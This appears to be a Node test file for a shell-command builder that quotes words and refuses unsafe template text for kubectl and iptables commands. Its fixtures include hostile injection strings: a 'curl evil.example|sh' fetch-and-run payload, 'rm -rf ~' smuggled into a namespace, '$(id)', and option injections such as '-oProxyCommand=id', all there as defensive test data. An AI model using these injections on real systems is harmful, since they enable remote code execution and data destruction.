/**
 * Commands as word lists: how a word is quoted, that a POSIX tokenizer reads every rendered line
 * back as exactly its words, and that the template refuses literal text that would need quoting.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { CommandError, quoteWord, renderCommand, sh, toCommand, type Command } from '../../src/check-kit/command.js';
import { posixWords } from '../support/posix-words.js';

/** Words a shell must not split, expand or interpret, whatever it is. */
const NASTY = [
  '', ' ', 'two words', "it's", "''", '"quoted"', '$HOME', '${IFS}', '$(id)', '`id`', 'a\\b', '\\',
  ';', '|', '&', '&&', '<', '>', '>>', '(', ')', '*', '?', '[a-z]', '{a,b}', '#', 'x#y', '~', '~root', '!', '!!', '=ls',
  'line\nbreak', 'tab\there', 'esc\x1b[31mred', 'bel\x07', 'del\x7f', 'c1\x9b', '\r',
  'café', '日本語', 'rtl\u202eevil', 'emoji 🙂', '-n', '--server=https://evil.example',
  'frontend;curl${IFS}-s${IFS}evil.example|sh;#',
];

describe('quoteWord', () => {
  test('leaves words of plain characters bare', () => {
    for (const w of ['kubectl', '-n', '--type=merge', 'app=frontend', 'kubernetes.io/service-name=web', '10.244.0.0/16', '30080/tcp', 'a,b', 'user@host', '100%', 'a+b', 'x:y']) {
      assert.equal(quoteWord(w), w);
    }
  });

  test('single-quotes everything else, a quote inside as \'\\\'\'', () => {
    assert.equal(quoteWord(''), "''");
    assert.equal(quoteWord('two words'), "'two words'");
    assert.equal(quoteWord("it's"), "'it'\\''s'");
    assert.equal(quoteWord('$HOME'), "'$HOME'");
    assert.equal(quoteWord('`id`'), "'`id`'");
    assert.equal(quoteWord('=ls'), "'=ls'", 'zsh expands a leading = to a path');
    assert.equal(quoteWord('a=b'), 'a=b');
    for (const ch of ';|&<>()*?[]{}#~!\\"\'$` \t\n') assert.match(quoteWord(`a${ch}b`), /^'.*'$/s, `a word holding ${JSON.stringify(ch)} is quoted`);
  });

  test('keeps control characters and non-ASCII as they are, inside the quotes', () => {
    assert.equal(quoteWord('a\nb'), "'a\nb'");
    assert.equal(quoteWord('esc\x1b[2J'), "'esc\x1b[2J'");
    assert.equal(quoteWord('café'), "'café'");
    assert.equal(quoteWord('rtl\u202eevil'), "'rtl\u202eevil'");
  });

  test('a POSIX tokenizer reads every rendered command back as exactly its words', () => {
    // Built as plain word lists: the template would (rightly) refuse the option-like words.
    const cmds = NASTY.map((w) => toCommand({ pipeline: [['echo', w, 'end']] }));
    const tokens = posixWords(cmds.map(renderCommand));
    NASTY.forEach((w, i) => assert.deepEqual(tokens[i], ['echo', w, 'end'], `word ${JSON.stringify(w)} as ${renderCommand(cmds[i]!)}`));
  });
});

describe('sh`…`', () => {
  const words = (c: Command) => c.pipeline.map((s) => [...s]);

  test('splits literal text on whitespace and makes each interpolation one word', () => {
    const ns = 'shop; rm -rf ~';
    const sel = "app=x y|z'";
    assert.deepEqual(words(sh`kubectl -n ${ns} get pods -l ${sel} -o wide`), [['kubectl', '-n', ns, 'get', 'pods', '-l', sel, '-o', 'wide']]);
    assert.deepEqual(words(sh`
      kubectl   get
      pods`), [['kubectl', 'get', 'pods']], 'newlines and runs of spaces separate words');
  });

  test('literal text touching an interpolation joins it into one word', () => {
    const node = 'n;id';
    assert.deepEqual(words(sh`kubectl get pods --field-selector spec.nodeName=${node}`)[0]!.slice(-1), [`spec.nodeName=${node}`]);
    assert.deepEqual(words(sh`ufw allow ${8080}/${'tcp'}`), [['ufw', 'allow', '8080/tcp']]);
    assert.deepEqual(words(sh`x ${'a'}${'b'} ${'c'}-d`), [['x', 'ab', 'c-d']]);
  });

  test('an empty string is an empty word; numbers are words; arrays add whole words, none when empty', () => {
    assert.deepEqual(words(sh`grep -e ${''} file`), [['grep', '-e', '', 'file']]);
    assert.deepEqual(words(sh`iptables -I INPUT ${3} -j ACCEPT`), [['iptables', '-I', 'INPUT', '3', '-j', 'ACCEPT']]);
    assert.deepEqual(words(sh`iptables -D INPUT ${['-p', 'tcp', '--comment', 'a b']} end`), [['iptables', '-D', 'INPUT', '-p', 'tcp', '--comment', 'a b', 'end']]);
    assert.deepEqual(words(sh`iptables -S ${[]}`), [['iptables', '-S']]);
  });

  test('a lone | separates pipeline stages', () => {
    const cmd = sh`kubectl logs ${'p|q'} | grep -iE ${'error|fail'} | tail -20`;
    assert.deepEqual(words(cmd), [['kubectl', 'logs', 'p|q'], ['grep', '-iE', 'error|fail'], ['tail', '-20']]);
    assert.equal(renderCommand(cmd), "kubectl logs 'p|q' | grep -iE 'error|fail' | tail -20");
  });

  test('JSON arguments are interpolated JSON.stringify words', () => {
    const cmd = sh`kubectl patch service ${"we'b"} -p ${JSON.stringify({ spec: { selector: { app: "it's;x" } } })}`;
    assert.equal(renderCommand(cmd), `kubectl patch service 'we'\\''b' -p '{"spec":{"selector":{"app":"it'\\''s;x"}}}'`);
    assert.deepEqual(posixWords([renderCommand(cmd)])[0], ['kubectl', 'patch', 'service', "we'b", '-p', '{"spec":{"selector":{"app":"it\'s;x"}}}']);
  });

  test('returns a frozen Command', () => {
    const cmd = sh`kubectl get svc`;
    assert.ok(Object.isFrozen(cmd) && Object.isFrozen(cmd.pipeline) && Object.isFrozen(cmd.pipeline[0]));
  });

  const refuses = (make: () => Command, why: RegExp, note?: string) =>
    assert.throws(make, (e: unknown) => e instanceof CommandError && why.test(e.message), note ?? String(make));

  test('refuses literal text that a shell would read as more than plain words', () => {
    refuses(() => sh`kubectl get pods -o jsonpath='{.items}'`, /holds "'"/);
    refuses(() => sh`echo "hi"`, /holds "\\""/);
    refuses(() => sh`echo $HOME`, /holds "\$"/);
    refuses(() => sh`echo \`id\``, /holds "\\\\"/, 'a backquote can only be written escaped, and the backslash is refused');
    refuses(() => sh`a; b`, /holds ";"/);
    refuses(() => sh`a && b`, /holds "&"/);
    refuses(() => sh`a > /tmp/x`, /holds ">"/);
    refuses(() => sh`a < /tmp/x`, /holds "<"/);
    refuses(() => sh`ls $(pwd)`, /holds "\$"/);
    refuses(() => sh`ls /usr/sbin/iptables*`, /holds "\*"/);
    refuses(() => sh`ls ~`, /holds "~"/);
    refuses(() => sh`echo a\nb`, /holds "\\\\"/);
    refuses(() => sh`kubectl edit cm x # a comment`, /holds "#"/);
    refuses(() => sh`echo {a,b}`, /holds "\{"/);
    refuses(() => sh`ls é`, /holds "é"/);
  });

  test('accepts | only standing alone between two commands', () => {
    refuses(() => sh`a|b`, /must stand alone|must be followed by a space/);
    refuses(() => sh`a |b`, /must be followed by a space/);
    refuses(() => sh`a || b`, /must be followed by a space/);
    refuses(() => sh`| grep x`, /needs a command on its left/);
    refuses(() => sh`kubectl get pods |`, /needs a command on its right/);
    refuses(() => sh`a | ${'b'}`, /`\|` must be followed by a space|must start with a literal program name/);
  });

  test('refuses a program that is not a literal word', () => {
    refuses(() => sh`${'rm'} -rf /`, /must start with a literal program name/);
    refuses(() => sh`kube${'ctl'} get pods`, /must start with a literal program name/);
    refuses(() => sh`a | ${'sh'}`, /must start with a literal program name/);
    refuses(() => sh`${['rm', '-rf']} /`, /must start with a literal program name/);
    refuses(() => sh``, /empty/);
  });

  test('refuses an interpolated word that would read as an option', () => {
    refuses(() => sh`kubectl describe pod ${'--server=https://evil.example'}`, /would read as an option/);
    refuses(() => sh`ssh ${'-oProxyCommand=id'} uptime`, /would read as an option/);
    refuses(() => sh`kubectl describe pod ${'-'}x`, /would read as an option/);
    assert.deepEqual(words(sh`kubectl get pods -l app=${'-x'}`), [['kubectl', 'get', 'pods', '-l', 'app=-x']], 'inside a word it is data');
  });

  test('refuses arrays glued to other text and values that are not strings or finite numbers', () => {
    refuses(() => sh`a x${['b']}`, /must stand alone/);
    refuses(() => sh`a ${['b']}x`, /must be followed by a space/);
    const values: unknown[] = [null, undefined, true, {}, Number.NaN, Number.POSITIVE_INFINITY];
    for (const v of values) refuses(() => sh`echo ${v as string}`, /cannot interpolate/);
    refuses(() => sh`echo ${[{}] as unknown as string[]}`, /cannot interpolate/);
    refuses(() => sh`echo ${'a\0b'}`, /NUL/);
  });
});

describe('toCommand (commands from plain JavaScript)', () => {
  test('accepts a word list and returns a frozen copy', () => {
    const given = { pipeline: [['kubectl', 'get', 'svc', "x'y"]] };
    const cmd = toCommand(given);
    assert.deepEqual(cmd, given);
    given.pipeline[0]![0] = 'rm';
    assert.equal(cmd.pipeline[0]![0], 'kubectl', 'later changes to the input do not reach it');
  });

  test('refuses strings, empty pipelines, non-string words and programs that are not literal words', () => {
    assert.throws(() => toCommand('kubectl get svc'), /not a string/);
    assert.throws(() => toCommand({ pipeline: [] }), /non-empty pipeline/);
    assert.throws(() => toCommand({ pipeline: [[]] }), /stage 1 of the command has no words/);
    assert.throws(() => toCommand({ pipeline: [['echo', 1]] }), /not a string/);
    assert.throws(() => toCommand({ pipeline: [['$(id)']] }), /cannot name the program/);
    assert.throws(() => toCommand({ pipeline: [['kubectl'], ['-rf']] }), /cannot name the program/);
    assert.throws(() => toCommand(null), /non-empty pipeline/);
  });
});
